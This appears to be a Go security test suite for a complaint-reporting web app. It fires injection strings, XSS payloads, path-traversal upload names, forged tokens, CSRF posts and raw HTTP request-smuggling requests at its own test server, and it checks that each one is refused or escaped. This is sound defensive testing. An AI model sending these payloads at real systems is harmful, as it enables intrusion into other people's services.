package handlers_test

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/flate"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"log/slog"
	"mime"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/golang-jwt/jwt/v5"
	"github.com/hibiken/asynq"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/width"

	"zhaocuo/jobs"
	"zhaocuo/jobs/egress"
	"zhaocuo/jobs/egress/egresstest"
	"zhaocuo/models"
	"zhaocuo/models/registrysheet"
)

// The hostile-input suite: a corpus of a few hundred requests an attacker (or a broken client)
// sends, over real HTTP to the whole web side on the test database. For every one:
//   - no 5xx;
//   - what must be refused is answered 4xx;
//   - a refused request changes nothing (tickets, events, users, attachments counted before and after);
//   - tickets stored = tickets acknowledged (201, or the form's 303 to /report/done): none made in secret;
//   - the payload never comes back unescaped in an HTML page.
// Then every page that shows stored text is read again: no payload is in it unescaped.

// injections go into every field; each is harmless only if it is treated as text.
var injections = []string{
	`' OR '1'='1`,
	`1; DROP TABLE tickets; --`,
	`" OR ""="`,
	`' UNION SELECT password_hash, username FROM users --`,
	`%' AND SLEEP(5) AND '%'='`,
	`\'; SELECT 1; --`,
	`{{.}}{{template "layout"}}`,
	`${7*7}#{7*7}<%= 7*7 %>`,
	`<script>alert("zc-xss-1")</script>`,
	`"><img src=x onerror=alert('zc-xss-2')>`,
	`javascript:alert('zc-xss-3')`,
	`</textarea><script>alert('zc-xss-4')</script>`,
	`<svg/onload=alert('zc-xss-5')>`,
	`'"--></style></script><script>alert('zc-xss-6')</script>`,
	"a\r\nSet-Cookie: zc_session=forged\r\n\r\n<b>zc-crlf</b>",
	"nul\x00byte<i>zc-nul</i>",
	"\u202e<u>zc-rtl</u>\u202d",
}

// invalidUTF8 is bytes that are not UTF-8, where text is expected.
var invalidUTF8 = []string{"\xff\xfe\xfd", "ab\xc3\x28cd", "\xed\xa0\x80surrogate", "\xf0\x28\x8c\xbc"}

// reportFields are the report's fields, in the form and in the API.
var reportFields = []string{"page_url", "category", "description", "contact_phone", "contact_email", "captcha_id", "captcha_answer"}

type attack struct {
	name    string
	send    func(w *hostileWorld) (*http.Response, string) // one request over HTTP
	raw     string                                         // or raw bytes on a socket, for what a client refuses to send
	refuse  bool                                           // must be answered 4xx
	payload string                                         // must not be reflected unescaped in HTML
	// check, when set, holds what this class must do besides the rules every request keeps
	// (a search that must find nothing, a redirect that must stay on the site); it sees the
	// first response and returns what went wrong, or nil.
	check func(w *hostileWorld, resp *http.Response, body string) error
}

// hostileWorld is the app with two tickets of different units, tokens and signed-in browsers.
type hostileWorld struct {
	*testApp
	gzwNo, gzwCode, scNo, scCode string
	staffToken, supToken         string
	adminAPIToken                string            // asked for by the attacks that need it (adminToken)
	tokens22                     map[string]string // section 22: API tokens by username (roleToken)
	plan22                       int64             // section 22: another administrator's plan (foreignPlan)
	anon, staffPages, adminPages *http.Client
}

func newHostileWorld(t *testing.T) *hostileWorld {
	a := newTestApp(t)
	w := &hostileWorld{testApp: a}
	w.gzwNo, w.gzwCode = a.submitTo("https://gzw.sc.gov.cn/a.html")
	w.scNo, w.scCode = a.submitTo("https://www.sc.gov.cn/a.html")
	w.staffToken, w.supToken = a.apiLogin("gzw-staff"), a.apiLogin("sc-supervisor")
	w.anon = &http.Client{CheckRedirect: noRedirects}
	w.staffPages, w.adminPages = w.browser("gzw-staff"), w.browser("admin")
	return w
}

func noRedirects(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }

// browser is a client signed in through the form as username.
func (w *hostileWorld) browser(username string) *http.Client {
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: noRedirects}
	resp, _ := w.send(c, w.formRequest("POST", "/login", url.Values{"username": {username}, "password": {demoPassword}, "next": {"/staff"}}, "same-origin"))
	if resp.StatusCode != http.StatusSeeOther {
		w.t.Fatalf("sign in %s: %d", username, resp.StatusCode)
	}
	return c
}

func (w *hostileWorld) send(c *http.Client, req *http.Request) (*http.Response, string) {
	w.t.Helper()
	resp, err := c.Do(req)
	if err != nil {
		w.t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp, string(body)
}

func (w *hostileWorld) formRequest(method, path string, v url.Values, site string) *http.Request {
	req, err := http.NewRequest(method, w.URL+path, strings.NewReader(v.Encode()))
	if err != nil {
		w.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if site != "" {
		req.Header.Set("Sec-Fetch-Site", site)
	}
	return req
}

func (w *hostileWorld) multipartRequest(path string, fields map[string]string, fileName string, file []byte) *http.Request {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for k, v := range fields {
		mw.WriteField(k, v)
	}
	if fileName != "" {
		fw, _ := mw.CreateFormFile("screenshot", fileName)
		fw.Write(file)
	}
	mw.Close()
	req, _ := http.NewRequest("POST", w.URL+path, &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	return req
}

func (w *hostileWorld) jsonRequest(method, path, token, body string) *http.Request {
	req, _ := http.NewRequest(method, w.URL+path, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	return req
}

func hostileCorpus(t *testing.T, w *hostileWorld) []attack {
	var list []attack
	add := func(a attack) { list = append(list, a) }
	withField := func(field, value string) map[string]string {
		f := validFields()
		f[field] = value
		return f
	}
	texts := append(append([]string{}, injections...), invalidUTF8...)

	// 1. Every text into every field of the report: the form, the JSON API, the API's multipart.
	for _, field := range reportFields {
		for i, p := range texts {
			add(attack{name: fmt.Sprintf("report form %s #%d", field, i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
				return w.send(w.anon, w.multipartRequest("/report", withField(field, p), "", nil))
			}})
			add(attack{name: fmt.Sprintf("report API %s #%d", field, i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
				return w.send(w.anon, w.jsonRequest("POST", "/api/v1/reports", "", rawJSON(withField(field, p))))
			}})
		}
		for i, p := range invalidUTF8 {
			add(attack{name: fmt.Sprintf("report API multipart %s not UTF-8 #%d", field, i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
				req := w.multipartRequest("/api/v1/reports", withField(field, p), "", nil)
				req.Header.Del("Sec-Fetch-Site")
				return w.send(w.anon, req)
			}})
		}
	}

	// 2. Lookups, ratings and sign-in with every text in every parameter.
	for i, p := range texts {
		add(attack{name: fmt.Sprintf("query page #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/query?"+url.Values{"ticket_no": {p}, "code": {p}}.Encode(), nil)
			return w.send(w.anon, r)
		}})
		add(attack{name: fmt.Sprintf("query form #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.formRequest("POST", "/query", url.Values{"ticket_no": {p}, "code": {p}}, "same-origin"))
		}})
		add(attack{name: fmt.Sprintf("report API lookup #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/api/v1/reports/"+url.PathEscape(p)+"?code="+url.QueryEscape(p), nil)
			return w.send(w.anon, r)
		}})
		add(attack{name: fmt.Sprintf("rating form #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.formRequest("POST", "/query/rating", url.Values{"ticket_no": {w.gzwNo}, "code": {p}, "rating": {p}}, "same-origin"))
		}})
		add(attack{name: fmt.Sprintf("rating API #%d", i), payload: p, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			body := `{"code":"` + jsonText(p) + `","rating":"` + jsonText(p) + `"}`
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/reports/"+w.scNo+"/rating", "", body))
		}})
		add(attack{name: fmt.Sprintf("sign-in form #%d", i), payload: p, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.formRequest("POST", "/login", url.Values{"username": {p}, "password": {p}, "next": {p}}, "same-origin"))
		}})
		add(attack{name: fmt.Sprintf("sign-in API #%d", i), payload: p, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			body := `{"username":"` + jsonText(p) + `","password":"` + jsonText(p) + `"}`
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/auth/login", "", body))
		}})
		add(attack{name: fmt.Sprintf("login page next= #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/login?next="+url.QueryEscape(p), nil)
			return w.send(w.anon, r)
		}})
		add(attack{name: fmt.Sprintf("report form ?url= prefill #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/?url="+url.QueryEscape(p), nil)
			return w.send(w.anon, r)
		}})
	}

	// 3. Staff: every text in every field of the actions, on pages and in the API; filters.
	for i, p := range texts {
		add(attack{name: fmt.Sprintf("staff list filters #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			q := url.Values{}
			for _, k := range []string{"status", "category", "unit", "region", "metric", "q", "from", "to", "page", "per_page", "source", "pending"} {
				q.Set(k, p)
			}
			r, _ := http.NewRequest("GET", w.URL+"/staff/tickets?"+q.Encode(), nil)
			return w.send(w.staffPages, r)
		}})
		add(attack{name: fmt.Sprintf("staff API list filters #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/api/v1/tickets?"+url.Values{"status": {p}, "q": {p}, "from": {p}, "page": {p}}.Encode(), nil)
			r.Header.Set("Authorization", "Bearer "+w.staffToken)
			return w.send(w.anon, r)
		}})
		add(attack{name: fmt.Sprintf("ticket page id #%d", i), payload: p, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/staff/tickets/"+url.PathEscape(p), nil)
			return w.send(w.staffPages, r)
		}})
		add(attack{name: fmt.Sprintf("audit filters #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/staff/audit?"+url.Values{"actor": {p}, "kind": {p}, "from": {p}, "page": {p}}.Encode(), nil)
			return w.send(w.adminPages, r)
		}})
		add(attack{name: fmt.Sprintf("stats filters #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/staff/stats?"+url.Values{"period": {p}, "from": {p}, "to": {p}, "group": {p}}.Encode(), nil)
			return w.send(w.adminPages, r)
		}})
		for _, action := range []string{"return", "extension", "link"} {
			add(attack{name: fmt.Sprintf("staff form %s #%d", action, i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
				v := url.Values{"text": {p}, "days": {p}, "primary": {p}, "request_key": {p}, "unit_id": {p}, "decision": {p}}
				return w.send(w.staffPages, w.formRequest("POST", "/staff/tickets/"+w.gzwNo+"/"+action, v, "same-origin"))
			}})
		}
		add(attack{name: fmt.Sprintf("staff API return #%d", i), payload: p, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+w.gzwNo+"/return", w.staffToken, `{"text":"`+jsonText(p)+`"}`))
		}})
		add(attack{name: fmt.Sprintf("supervisor API assign #%d", i), payload: p, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+w.scNo+"/assign", w.supToken, `{"unit_id":"`+jsonText(p)+`"}`))
		}})
		add(attack{name: fmt.Sprintf("admin new user #%d", i), payload: p, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			v := url.Values{"username": {p}, "display_name": {p}, "role": {p}, "password": {p}, "unit_id": {p}, "region": {p}}
			return w.send(w.adminPages, w.formRequest("POST", "/admin/users", v, "same-origin"))
		}})
	}

	// 4. Oversized and malformed bodies.
	bodies := []struct{ name, ctype, body string }{
		{"JSON over 64 KB", "application/json", `{"description":"` + strings.Repeat("长", 30000) + `"}`},
		{"JSON nested 10000 deep", "application/json", strings.Repeat("[", 10000) + strings.Repeat("]", 10000)},
		{"JSON cut short", "application/json", `{"page_url":"https://www.sc.gov.cn/","desc`},
		{"JSON two values", "application/json", `{} {}`},
		{"JSON array", "application/json", `[1,2,3]`},
		{"JSON null", "application/json", `null`},
		{"JSON wrong types", "application/json", `{"page_url":1,"category":[],"description":{}}`},
		{"JSON unknown field", "application/json", `{"page_url":"https://www.sc.gov.cn/","unit_id":1,"status":"closed"}`},
		{"JSON duplicate keys", "application/json", `{"category":"其他","category":"其他","page_url":"x"}`},
		{"JSON BOM", "application/json", "\ufeff{}"},
		{"JSON huge number", "application/json", `{"page_url":1e999999}`},
		{"JSON as UTF-16", "application/json; charset=utf-16", "\xff\xfe{\x00}\x00"},
		{"form-urlencoded to the API", "application/x-www-form-urlencoded", "page_url=x&category=y"},
		{"text/plain", "text/plain", "hello"},
		{"no content type", "", `{"page_url":"https://www.sc.gov.cn/"}`},
		{"bad media type", "application/json; =;;", `{}`},
		{"multipart without boundary", "multipart/form-data", "--x\r\n\r\n--x--"},
		{"multipart boundary mismatch", "multipart/form-data; boundary=abc", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--xyz--\r\n"},
		{"multipart cut short", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"page_url\"\r\n\r\nhttps://www.sc"},
		{"multipart 10000 fields", "multipart/form-data; boundary=x", strings.Repeat("--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nv\r\n", 10000) + "--x--\r\n"},
		{"multipart header bomb", "multipart/form-data; boundary=x", "--x\r\n" + strings.Repeat("X-A: "+strings.Repeat("a", 1000)+"\r\n", 200) + "\r\nv\r\n--x--\r\n"},
	}
	for _, b := range bodies {
		for _, path := range []string{"/api/v1/reports", "/api/v1/auth/login", "/api/v1/reports/" + w.gzwNo + "/rating"} {
			add(attack{name: b.name + " to " + path, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
				req, _ := http.NewRequest("POST", w.URL+path, strings.NewReader(b.body))
				if b.ctype != "" {
					req.Header.Set("Content-Type", b.ctype)
				}
				return w.send(w.anon, req)
			}})
		}
		add(attack{name: b.name + " to a staff action", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			req := w.jsonRequest("POST", "/api/v1/tickets/"+w.gzwNo+"/reply", w.staffToken, b.body)
			req.Header.Set("Content-Type", b.ctype)
			return w.send(w.anon, req)
		}})
		if strings.HasPrefix(b.ctype, "multipart/") {
			add(attack{name: b.name + " to the form", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
				req, _ := http.NewRequest("POST", w.URL+"/report", strings.NewReader(b.body))
				req.Header.Set("Content-Type", b.ctype)
				req.Header.Set("Sec-Fetch-Site", "same-origin")
				return w.send(w.anon, req)
			}})
		}
	}
	add(attack{name: "upload of 13 MB", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.multipartRequest("/api/v1/reports", validFields(), "big.png", append(pngImage(t, 2, 2), make([]byte, 13<<20)...)))
	}})
	add(attack{name: "staff action body of 1 MB", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+w.gzwNo+"/reply", w.staffToken, `{"text":"`+strings.Repeat("a", 1<<20)+`"}`))
	}})

	// 5. Uploads: names that climb out of a directory or pretend, contents that are not images.
	png := pngImage(t, 4, 4)
	for _, name := range []string{"../../../../etc/passwd", `..\..\..\windows\win.ini`, "/etc/shadow", "a.png\x00.html",
		"<script>alert('zc-xss-7')</script>.png", "....//....//x.png", "%2e%2e%2f%2e%2e%2fx.png", "CON.png", strings.Repeat("a", 5000) + ".png", ".htaccess"} {
		add(attack{name: "upload named " + name[:min(len(name), 40)], payload: name, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.multipartRequest("/report", validFields(), name, png))
		}})
	}
	for name, content := range map[string]string{
		"HTML as .png":     "<html><script>alert('zc-xss-8')</script></html>",
		"SVG with script":  `<svg xmlns="http://www.w3.org/2000/svg"><script>alert('zc-xss-9')</script></svg>`,
		"PNG header, junk": "\x89PNG\r\n\x1a\n<script>alert('zc-xss-10')</script>",
		"GIF":              "GIF89a\x01\x00\x01\x00\x00\x00\x00;",
		"PDF":              "%PDF-1.4\n%âãÏÓ\n",
		"empty":            "",
		"ELF":              "\x7fELF\x02\x01\x01",
	} {
		add(attack{name: "upload of " + name, refuse: true, payload: content, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.multipartRequest("/report", validFields(), "shot.png", []byte(content)))
		}})
		add(attack{name: "API upload of " + name, refuse: true, payload: content, send: func(w *hostileWorld) (*http.Response, string) {
			req := w.multipartRequest("/api/v1/reports", validFields(), "shot.png", []byte(content))
			return w.send(w.anon, req)
		}})
	}
	add(attack{name: "image of 30000×30000 pixels", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.multipartRequest("/report", validFields(), "big.png", pngHeader(30000, 30000)))
	}})

	// 6. Tokens: forged, expired, other algorithms; and cookies forged the same way.
	for name, token := range forgedTokens(t) {
		for _, path := range []string{"/api/v1/tickets", "/api/v1/me", "/api/v1/tickets/" + w.gzwNo} {
			add(attack{name: "token " + name + " on " + path, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
				r, _ := http.NewRequest("GET", w.URL+path, nil)
				r.Header.Set("Authorization", "Bearer "+token)
				return w.send(w.anon, r)
			}})
		}
		add(attack{name: "token " + name + " acting", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+w.gzwNo+"/accept", token, ""))
		}})
		add(attack{name: "session cookie " + name, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			r := w.formRequest("POST", "/staff/tickets/"+w.gzwNo+"/accept", url.Values{}, "same-origin")
			r.AddCookie(&http.Cookie{Name: "zc_session", Value: token})
			return w.send(w.anon, r)
		}})
	}
	add(attack{name: "a page's cookie on the API", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		r, _ := http.NewRequest("GET", w.URL+"/api/v1/tickets", nil)
		for _, c := range w.staffPages.Jar.Cookies(mustURL(w.URL)) {
			r.AddCookie(c)
		}
		return w.send(w.anon, r)
	}})
	add(attack{name: "Basic instead of Bearer", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		r, _ := http.NewRequest("GET", w.URL+"/api/v1/tickets", nil)
		r.SetBasicAuth("gzw-staff", demoPassword)
		return w.send(w.anon, r)
	}})

	// 7. Another unit's ticket, every way in; a unit's staff at a supervisor's and admin's doors.
	for _, action := range []string{"accept", "reply", "return", "extension", "link", "approve", "assign", "invalidate", "urge", "reopen"} {
		add(attack{name: "cross-unit API " + action, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+w.scNo+"/"+action, w.staffToken, `{"text":"越权操作的测试文字，应被拒绝","unit_id":1,"days":5,"confirmed":true}`))
		}})
		add(attack{name: "cross-unit form " + action, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			v := url.Values{"text": {"越权操作的测试文字，应被拒绝"}, "unit_id": {"1"}, "days": {"5"}, "confirmed": {"1"}, "primary": {w.gzwNo}}
			return w.send(w.staffPages, w.formRequest("POST", "/staff/tickets/"+w.scNo+"/"+action, v, "same-origin"))
		}})
	}
	for _, path := range []string{"/staff/tickets/" + w.scNo, "/staff/tickets/" + w.scNo + "/screenshot", "/staff/audit", "/admin/users", "/admin/queues"} {
		add(attack{name: "staff page " + path, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+path, nil)
			return w.send(w.staffPages, r)
		}})
	}
	add(attack{name: "link to another unit's ticket", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+w.gzwNo+"/link", w.staffToken, `{"primary":"`+w.scNo+`"}`))
	}})
	add(attack{name: "rating with another ticket's code", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("POST", "/api/v1/reports/"+w.scNo+"/rating", "", `{"code":"`+w.gzwCode+`","rating":"satisfied"}`))
	}})
	add(attack{name: "lookup with another ticket's code", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		r, _ := http.NewRequest("GET", w.URL+"/api/v1/reports/"+w.scNo+"?code="+w.gzwCode, nil)
		return w.send(w.anon, r)
	}})

	// 8. Cross-site posts (CSRF): the signed-in browser, sent from another site.
	csrf := []struct{ name, path string }{
		{"report", "/report"}, {"sign-in", "/login"}, {"sign-out", "/logout"}, {"accept", "/staff/tickets/" + w.gzwNo + "/accept"},
		{"return", "/staff/tickets/" + w.gzwNo + "/return"}, {"new user", "/admin/users"}, {"rating", "/query/rating"},
		{"password", "/account/password"}, {"settings", "/admin/settings"}, {"notifications", "/notifications/read"},
	}
	for _, c := range csrf {
		for _, how := range []string{"Sec-Fetch-Site cross-site", "Origin only", "Sec-Fetch-Site same-site"} {
			add(attack{name: "CSRF " + c.name + " by " + how, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
				v := url.Values{"text": {"跨站请求的测试文字，应被拒绝"}, "username": {"evil"}, "password": {"evil-password-1"}, "role": {"admin"},
					"display_name": {"evil"}, "ticket_no": {w.gzwNo}, "code": {w.gzwCode}, "rating": {"satisfied"}, "page_url": {"https://www.sc.gov.cn/"},
					"category": {"其他"}, "description": {"跨站提交的留言，应当被拒绝。"}}
				r := w.formRequest("POST", c.path, v, "")
				switch how {
				case "Sec-Fetch-Site cross-site":
					r.Header.Set("Sec-Fetch-Site", "cross-site")
				case "Sec-Fetch-Site same-site":
					r.Header.Set("Sec-Fetch-Site", "same-site")
				default:
					r.Header.Set("Origin", "https://evil.example")
				}
				client := w.adminPages
				if strings.HasPrefix(c.path, "/staff") {
					client = w.staffPages
				}
				return w.send(client, r)
			}})
		}
	}

	// 9. Header smuggling and malformed requests, written raw on the socket.
	report := jsonBody(validFields())
	inner := "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " + fmt.Sprint(len(report)) + "\r\n\r\n" + report
	smuggle := "0\r\n\r\n" + inner
	for name, raw := range map[string]string{
		"CL.TE":                    "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " + fmt.Sprint(len(smuggle)) + "\r\nTransfer-Encoding: chunked\r\n\r\n" + smuggle,
		"TE.CL":                    "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n" + inner[:min(len(inner), 0x5c)] + "\r\n0\r\n\r\n",
		"two Content-Lengths":      "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: " + fmt.Sprint(len(report)) + "\r\n\r\n" + report,
		"TE obfuscated":            "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: xchunked\r\nContent-Length: 2\r\n\r\n{}",
		"TE chunked, identity":     "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked, identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
		"TE with a space":          "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding : chunked\r\nContent-Length: 2\r\n\r\n{}",
		"bad chunk size":           "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
		"chunk larger than sent":   "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nffffff\r\n{}\r\n0\r\n\r\n",
		"negative Content-Length":  "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{}",
		"huge Content-Length":      "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 99999999999999999999\r\n\r\n{}",
		"obs-fold header":          "POST /api/v1/reports HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nX-Request-ID: abcdefgh\r\n Set-Cookie: zc_session=forged\r\nContent-Length: 2\r\n\r\n{}",
		"bare LF":                  "POST /api/v1/reports HTTP/1.1\nHost: x\nContent-Type: application/json\nContent-Length: 2\n\n{}",
		"CR in a header":           "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Request-ID: abcdefgh\rSet-Cookie: zc_session=forged\r\n\r\n",
		"NUL in a header":          "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Request-ID: abc\x00defgh\r\n\r\n",
		"no Host":                  "GET /healthz HTTP/1.1\r\n\r\n",
		"two Hosts":                "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
		"absolute URI, other host": "GET http://evil.example/staff HTTP/1.1\r\nHost: x\r\n\r\n",
		"path traversal":           "GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
		"encoded traversal":        "GET /static/x/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: x\r\n\r\n",
		"request line junk":        "GET /\x01\x02 HTTP/1.1\r\nHost: x\r\n\r\n",
		"HTTP/0.9":                 "GET /\r\n\r\n",
		"HTTP/2 preface on 1.1":    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		"method junk":              "G\x7fET / HTTP/1.1\r\nHost: x\r\n\r\n",
		"header of 2 MB":           "GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + strings.Repeat("a", 2<<20) + "\r\n\r\n",
		"request id with CRLF":     "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Request-ID: abcdefgh%0d%0aSet-Cookie:%20x=1\r\n\r\n",
	} {
		add(attack{name: "raw " + name, raw: raw})
	}

	// 10. Sign-in: redirects that would leave the site, locked and misspelt usernames, a
	// disabled account, guessing the current password. (Requests at once: auth_test.go.)
	for _, next := range openRedirects {
		add(attack{name: fmt.Sprintf("sign-in next=%q", next), check: onSite, send: func(w *hostileWorld) (*http.Response, string) {
			return w.noFollow(w.anon, w.formRequest("POST", "/login", url.Values{"username": {"gzw-reviewer"}, "password": {demoPassword}, "next": {next}}, "same-origin"))
		}})
		add(attack{name: fmt.Sprintf("signed in, /login?next=%q", next), check: onSite, send: func(w *hostileWorld) (*http.Response, string) {
			r, _ := http.NewRequest("GET", w.URL+"/login?next="+url.QueryEscape(next), nil)
			return w.noFollow(w.staffPages, r)
		}})
		if r, err := http.NewRequest("GET", w.URL+"/login?next="+next, nil); err == nil && !strings.ContainsAny(next, "# ") {
			add(attack{name: fmt.Sprintf("signed in, raw /login?next=%s", r.URL.RawQuery), check: onSite, send: func(w *hostileWorld) (*http.Response, string) {
				r, _ := http.NewRequest("GET", w.URL+"/login?next="+next, nil)
				return w.noFollow(w.staffPages, r)
			}})
		}
	}
	owner := w.browser("scgov-reviewer") // signed in before the guessing starts: its device cookie
	add(attack{name: "sign-in after five wrong guesses", refuse: true, check: lockedOut, send: func(w *hostileWorld) (*http.Response, string) {
		for i := range 5 {
			w.send(w.anon, w.jsonRequest("POST", "/api/v1/auth/login", "", `{"username":"scgov-reviewer","password":"guess-`+fmt.Sprint(i)+`-pass"}`))
		}
		return w.send(w.anon, w.formRequest("POST", "/login", url.Values{"username": {"scgov-reviewer"}, "password": {demoPassword}}, "same-origin"))
	}})
	add(attack{name: "locked username, forged device cookie", refuse: true, check: lockedOut, send: func(w *hostileWorld) (*http.Response, string) {
		r := w.formRequest("POST", "/login", url.Values{"username": {"scgov-reviewer"}, "password": {demoPassword}}, "same-origin")
		for _, c := range owner.Jar.Cookies(mustURL(w.URL + "/login")) {
			if strings.HasPrefix(c.Name, "zc_device_") {
				r.AddCookie(&http.Cookie{Name: c.Name, Value: c.Value[:len(c.Value)-4] + "AAAA"})
			}
		}
		return w.send(w.anon, r)
	}})
	add(attack{name: "locked username, the owner's browser", check: onSite, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(owner, w.formRequest("POST", "/login", url.Values{"username": {"scgov-reviewer"}, "password": {demoPassword}, "next": {"/staff"}}, "same-origin"))
	}})
	for _, name := range usernameSpellings {
		add(attack{name: fmt.Sprintf("admin spelt %q", name), refuse: true, check: badCredentials, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/auth/login", "", `{"username":"`+jsonText(name)+`","password":"`+demoPassword+`"}`))
		}})
	}
	w.disabledUser()
	add(attack{name: "disabled account, right password", refuse: true, check: badCredentials, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.anon, w.jsonRequest("POST", "/api/v1/auth/login", "", `{"username":"zc-disabled","password":"`+demoPassword+`"}`))
	}})
	add(attack{name: "current password guessed five times, then right", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		change := func(old string) (*http.Response, string) {
			v := url.Values{"old_password": {old}, "new_password": {"taken-over-123"}, "confirm_password": {"taken-over-123"}}
			return w.send(w.staffPages, w.formRequest("POST", "/account/password", v, "same-origin"))
		}
		for i := range 5 {
